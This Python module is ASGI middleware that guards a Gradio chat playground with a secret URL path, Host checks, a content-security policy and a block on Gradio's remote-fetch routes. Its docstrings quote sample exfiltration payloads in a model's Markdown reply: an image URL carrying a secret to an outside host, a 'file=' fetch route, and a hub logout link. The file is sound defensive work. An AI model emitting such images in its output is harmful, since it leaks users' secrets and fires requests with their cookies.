"""Who may use a running playground: the holder of its secret path, on an expected Host.

The app relays chats with the notebook owner's token, so every HTTP request must prove it
came from someone who was handed the playground's URL. The URL carries a random secret as
its first path segment; anything else is a 404, as if nothing listened there.
"""

from __future__ import annotations

import hmac
import re
import secrets
import socket
from collections.abc import Iterable
from typing import Any

from ..core.hosts import host_name, is_ip_literal, is_loopback, unspecified_address


def new_secret() -> str:
    """A fresh, unguessable path segment for one playground (256 random bits)."""
    return secrets.token_urlsafe(32)


def machine_names() -> set[str]:
    """This machine's host name and FQDN: what people type to reach an app bound to 0.0.0.0."""
    names = {socket.gethostname()}
    try:
        names.add(socket.getfqdn())
    except OSError:  # a resolver without this host: the plain name still counts
        pass
    return {host_name(n) for n in names if n}


class Guard:
    """ASGI middleware: 404 unless the path starts with the secret, 403 unless the Host is expected.

    Hosts accepted: loopback names and addresses, the bound ``host``, ``allowed_hosts`` (added
    to later for a share link), and, when bound to every interface, any IP address and this
    machine's names. A request through jupyter-server-proxy keeps the browser's Host (the
    hub's name), so one carrying the proxy's ``X-Forwarded-Context`` for our ``root_path`` is
    accepted too: that header alone proves nothing, but such a request still needs the secret.

    ``root_path`` is also the prefix such a proxy strips: it is put back in front of the path
    passed on (as ASGI expects of a server behind one), so Gradio builds its links with it.
    """

    def __init__(
        self,
        app: Any,
        *,
        secret: str,
        host: str,
        allowed_hosts: Iterable[str] = (),
        root_path: str = "",
    ):
        self.app = app
        self.prefix = "/" + secret
        self.allowed_hosts = {host_name(h) for h in allowed_hosts}
        self.any_ip = unspecified_address(host) is not None  # "0" and "::0" too, as the bind reads them
        if self.any_ip:
            self.allowed_hosts |= machine_names()
        elif host:
            self.allowed_hosts.add(host_name(host))
        self.root_path = root_path.rstrip("/")

    def allow_host(self, name: str) -> None:
        """Accept requests for ``name`` too (the share link's host once the tunnel is up)."""
        self.allowed_hosts.add(host_name(name))

    def has_secret(self, path: str) -> bool:
        """True when ``path`` is ``/{secret}`` or below it (compared in constant time)."""
        head = path[: len(self.prefix)]
        rest = path[len(self.prefix) :]
        return hmac.compare_digest(head.encode(), self.prefix.encode()) and rest[:1] in ("", "/")

    def host_ok(self, headers: dict[bytes, bytes]) -> bool:
        """True when the request's Host (or the proxy's context header) is one we expect."""
        raw = headers.get(b"host")
        if raw is None:
            return False
        name = host_name(raw.decode("latin-1"))
        if is_loopback(name) or name in self.allowed_hosts:
            return True
        if self.any_ip and is_ip_literal(name):
            return True
        context = headers.get(b"x-forwarded-context")
        return bool(
            self.root_path
            and context is not None
            and context.decode("latin-1").rstrip("/") == self.root_path
        )

    async def __call__(self, scope: dict, receive: Any, send: Any) -> None:
        """Refuse the request unless it carries the secret and an expected Host; else pass it on."""
        if scope["type"] not in ("http", "websocket"):
            await self.app(scope, receive, send)
            return
        # Host first: a rebinding page learns nothing, not even whether the path exists.
        if not self.host_ok(dict(scope.get("headers") or ())):
            await refuse(scope, receive, send, 403, b"Forbidden: unexpected Host header\n")
        elif not self.has_secret(scope.get("path", "")):
            await refuse(scope, receive, send, 404, b"Not Found\n")
        elif fetches_elsewhere(scope.get("path", "")[len(self.prefix):]):
            await refuse(scope, receive, send, 403, b"Forbidden: the playground serves no other site's files\n")
        else:
            headers = dict(scope.get("headers") or ())
            own = app_source(headers.get(b"host", b"").decode("latin-1"), f"{self.root_path}{self.prefix}/")
            await self.app(self.behind_proxy(scope), receive, no_referrer(send, content_security_policy(own)))

    def behind_proxy(self, scope: dict) -> dict:
        """``scope`` with the proxy's prefix as its ``root_path`` and in front of its path."""
        if not self.root_path:
            return scope
        root = scope.get("root_path", "") + self.root_path
        return {
            **scope,
            "root_path": root,
            "path": root + scope["path"],
            "raw_path": root.encode() + scope.get("raw_path", scope["path"].encode()),
        }


#: Gradio's routes that fetch an http(s) URL named in their path on the server and serve what it got
#: (``gradio_api/file=URL``, its older ``gradio_api/file/URL``, ``proxy=URL``); matched anywhere, any case
_FETCHING = re.compile(r"/(?:file[=/]|proxy=)\s*https?:", re.IGNORECASE)


def fetches_elsewhere(path: str) -> bool:
    """True when ``path`` (below the secret) asks Gradio to fetch another site's URL for the page.

    The CSP lets the page load images from the app's own path only, but ``![](gradio_api/file=https://host/x)``
    in a reply is a relative URL on that path: Gradio fetched ``https://host/x`` itself (any public address)
    and served it, so a reply still sent what its URL carries to any site, on sight. The playground shows
    no remote files, so these are refused before Gradio sees them.
    """
    return bool(_FETCHING.search(path))


#: what a Host header or path may hold to be spelt into the CSP (anything else could end its directive)
_HOST_SOURCE = re.compile(r"[A-Za-z0-9.\-]+(:[0-9]+)?|\[[0-9A-Fa-f:.]+\](:[0-9]+)?")
_PATH_SOURCE = re.compile(r"/[A-Za-z0-9._~%/\-]*/")


def app_source(host: str, path: str) -> str:
    """The CSP source for the app's own URLs only (``host/root/secret/``); ``""`` when ``host`` or ``path`` can't be one."""
    if not _HOST_SOURCE.fullmatch(host) or not _PATH_SOURCE.fullmatch(path):
        return ""
    return host + path


def content_security_policy(own: str) -> bytes:
    """The CSP of every response: images and media (what loads on sight) only from ``own``.

    A model's reply is Markdown that Gradio renders, its sanitizer leaving images, media and style attributes.
    An image from another site (``![x](https://host/?d=secret)``, an <img>, a CSS background) would be fetched
    the moment it is shown, leaking what is in its URL. One from the page's own origin, which ``'self'``
    allowed, is worse behind jupyter-server-proxy: that origin is the user's Jupyter server or hub, and
    ``![](/hub/logout)`` sent it a GET with the user's cookies, no click needed. So the app's own path is
    the only server source: a host-source with a path, not ``'self'`` (no CSP source can be "https: but not
    this origin", so images from the web are not allowed either).
    """
    own = f" {own}" if own else ""
    return f"img-src{own} data: blob:; media-src{own} data: blob:".encode()


def no_referrer(send: Any, csp: bytes) -> Any:
    """``send`` that adds ``Referrer-Policy: same-origin`` (the secret URL never leaves as a Referer) and ``csp``."""

    async def wrapped(message: dict) -> None:
        if message["type"] == "http.response.start":
            extra = [(b"referrer-policy", b"same-origin"), (b"content-security-policy", csp)]
            message = {**message, "headers": [*message.get("headers", ()), *extra]}
        await send(message)

    return wrapped


async def refuse(scope: dict, receive: Any, send: Any, status: int, body: bytes) -> None:
    """Answer ``status`` with a short text body (a websocket is closed instead)."""
    if scope["type"] == "websocket":
        await send({"type": "websocket.close", "code": 1008})
        return
    await send(
        {
            "type": "http.response.start",
            "status": status,
            "headers": [
                (b"content-type", b"text/plain; charset=utf-8"),
                (b"content-length", str(len(body)).encode()),
            ],
        }
    )
    await send({"type": "http.response.body", "body": body})


__all__ = ["Guard", "host_name", "is_loopback", "new_secret"]
